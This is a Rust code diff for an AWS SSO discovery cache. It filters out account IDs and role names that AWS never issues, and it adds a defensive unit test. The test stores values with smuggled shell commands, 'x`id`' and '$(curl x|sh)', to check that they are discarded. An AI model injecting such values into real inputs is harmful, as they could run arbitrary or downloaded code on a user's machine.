@@ -9,6 +9,7 @@ use serde::{Deserialize, Serialize};
 use tokio::task::JoinSet;
 
 use super::portal::{Account, Portal, PortalError};
+use crate::aws_names::{is_account_id, is_role_name};
 use crate::safe_write::{StagedWrite, short_hash};
 use crate::timestamps::epoch_seconds;
 use crate::vault::{Secret, SessionKey};
@@ -65,9 +66,17 @@ impl Discovery {
     }
 
     /// The last discovery of `key` kept in `data_dir`, if any.
+    /// An account or role of a shape AWS never gives (a file edited by hand or by
+    /// another program) is left out.
     pub fn cached(data_dir: &Path, key: &SessionKey) -> Option<Self> {
         let text = std::fs::read_to_string(cache_file(data_dir, key)).ok()?;
-        serde_json::from_str(&text).ok()
+        let mut kept: Self = serde_json::from_str(&text).ok()?;
+        kept.accounts
+            .retain(|entry| is_account_id(&entry.account.id));
+        for entry in &mut kept.accounts {
+            entry.roles.retain(|role| is_role_name(role));
+        }
+        Some(kept)
     }
 
     pub fn keep(&self, data_dir: &Path, key: &SessionKey) -> std::io::Result<()> {
@@ -96,4 +105,33 @@ fn cache_file(data_dir: &Path, key: &SessionKey) -> PathBuf {
     data_dir
         .join("discovery")
         .join(format!("{}.json", short_hash(&key.item_name())))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_kept_listing_edited_to_hold_a_shell_command_is_read_without_it() {
+        let data = tempfile::tempdir().unwrap();
+        let key = SessionKey::SsoSession("corp".to_owned());
+        let account = |id: &str, roles: &[&str]| AccountRoles {
+            account: Account {
+                id: id.to_owned(),
+                name: None,
+                email: None,
+            },
+            roles: roles.iter().map(|role| (*role).to_owned()).collect(),
+        };
+        let tampered = Discovery {
+            fetched_at: SystemTime::UNIX_EPOCH,
+            accounts: vec![
+                account("111122223333", &["Admin", "x`id`"]),
+                account("$(curl x|sh)", &["Admin"]),
+            ],
+        };
+        tampered.keep(data.path(), &key).unwrap();
+        let read = Discovery::cached(data.path(), &key).unwrap();
+        assert_eq!(read.accounts, [account("111122223333", &["Admin"])]);
+    }
 }
